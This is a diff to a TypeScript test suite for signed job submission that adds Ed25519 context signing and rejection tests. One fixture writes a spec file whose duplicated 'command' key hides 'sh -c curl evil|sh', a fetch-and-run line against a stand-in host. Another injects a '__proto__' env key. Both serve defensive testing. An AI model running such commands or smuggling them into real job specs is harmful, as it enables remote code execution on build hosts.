@@ -7,7 +7,7 @@ import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { startControlPlane } from '../../src/control-plane.js';
 import { createLogger } from '../../src/log.js';
-import { PAYLOAD_TYPE, payloadBytes } from '../../src/signing/envelope.js';
+import { ed25519Message, PAYLOAD_TYPE, payloadBytes } from '../../src/signing/envelope.js';
 import { parsePublicKey } from '../../src/signing/public-key.js';
 import { CLI } from './helpers.js';
 import { call, SERVER_DEFAULTS, startTestServer, type TestServer } from './server-helpers.js';
@@ -85,7 +85,7 @@ describe('signed jobs', () => {
       signature: {
         format: 'ed25519',
         key: parsePublicKey(pemPublic).fingerprint,
-        value: sign(null, bytes, pem.privateKey).toString('base64'),
+        value: sign(null, ed25519Message(bytes), pem.privateKey).toString('base64'),
       },
     };
   };
@@ -249,6 +249,75 @@ describe('signed jobs', () => {
       400,
       'INVALID_REQUEST',
     );
+    // A raw Ed25519 signature of the bare payload (no context): a signature made for anything
+    // else by the same key cannot pass as a job signature.
+    const bare = Buffer.from(good.payload, 'base64');
+    await expect(
+      {
+        ...pemSigned(),
+        payload: good.payload,
+        signature: { ...good.signature, value: sign(null, bare, pem.privateKey).toString('base64') },
+      },
+      403,
+      'SIGNATURE_INVALID',
+    );
+    // What the body parser refuses, the payload parser refuses too: a lone surrogate, bad
+    // UTF-8, a reserved key — so what runs cannot differ from the signed bytes.
+    const raw = (text: string | Buffer) => {
+      const bytes = Buffer.isBuffer(text) ? text : Buffer.from(text);
+      return {
+        payload: bytes.toString('base64'),
+        signature: {
+          ...good.signature,
+          value: sign(null, ed25519Message(bytes), pem.privateKey).toString('base64'),
+        },
+      };
+    };
+    const body = Buffer.from(good.payload, 'base64').toString('utf8');
+    await expect(raw(body.replace('signed and sealed', '\\ud800')), 400, 'INVALID_REQUEST');
+    await expect(
+      raw(
+        Buffer.concat([Buffer.from(body.replace('signed and sealed', '')), Buffer.from([0xf0, 0x90, 0x80])]),
+      ),
+      400,
+      'INVALID_REQUEST',
+    );
+    const withEnv = JSON.parse(body);
+    withEnv.spec.env = { ['__proto__']: 'P' };
+    await expect(
+      raw(JSON.stringify(withEnv).replace('"env":{}', '"env":{"__proto__":"P"}')),
+      400,
+      'INVALID_REQUEST',
+    );
+    // A token of another project learns nothing of this project's keys.
+    const outsider = (
+      await server.call('POST', '/v1/tokens', server.admin, {
+        principal: 'outsider',
+        role: 'submitter',
+        projects: ['elsewhere'],
+      })
+    ).body.secret;
+    const probe = await server.call('POST', '/v1/jobs/signed', outsider, pemSigned());
+    assert.equal(probe.status, 403);
+    assert.equal(probe.body.error.code, 'FORBIDDEN');
+    // An Idempotency-Key of an unsigned submit does not hand its job to a signed one.
+    assert.equal(
+      (await server.call('POST', '/v1/jobs', server.admin, spec, { 'idempotency-key': 'k-signed-1' })).status,
+      201,
+    );
+    const reuse = await server.call('POST', '/v1/jobs/signed', server.admin, pemSigned(), {
+      'idempotency-key': 'k-signed-1',
+    });
+    assert.equal(reuse.status, 409);
+    assert.equal(reuse.body.error.code, 'IDEMPOTENCY_KEY_REUSED');
+    // A spec file with a key twice is not signed (the last one would be, silently).
+    await writeFile(
+      join(dir, 'twice.json'),
+      '{"version":1,"project":"signed","command":["echo","reviewed"],"command":["sh","-c","curl evil|sh"]}',
+    );
+    const twice = await runCli(['sign', join(dir, 'twice.json'), '--key', key], env);
+    assert.equal(twice.code, 125);
+    assert.match(twice.stderr, /"command" twice/);
     // A revoked key.
     const keys = (await server.call('GET', '/v1/keys?project=signed', server.admin)).body.keys;
     const bot = keys.find((k: { owner: string }) => k.owner === 'bot');
